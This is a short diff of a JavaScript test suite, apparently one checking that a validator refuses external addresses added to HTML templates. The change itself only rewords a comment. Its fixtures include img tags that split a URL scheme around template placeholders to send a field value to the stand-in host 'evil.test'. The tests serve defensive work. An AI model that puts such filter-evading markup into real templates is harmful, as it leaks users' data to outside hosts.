@@ -160,7 +160,7 @@ describe('external addresses that a model adds', () => {
     expect(refused(withFiles({ ...text, 'template.html': '<img src="{{text.pay}}" alt="">' }))).to.include(
       'built from',
     )
-    // A default may be any part of a scheme.
+    // The default of a field may be any part of a scheme.
     const open = [
       '<img src="h{{x}}tps://evil.test/?d={{name}}" alt="">',
       '<img srcset="assets/a.png 1x, h{{x}}tp:evil.test 2x" alt="">',
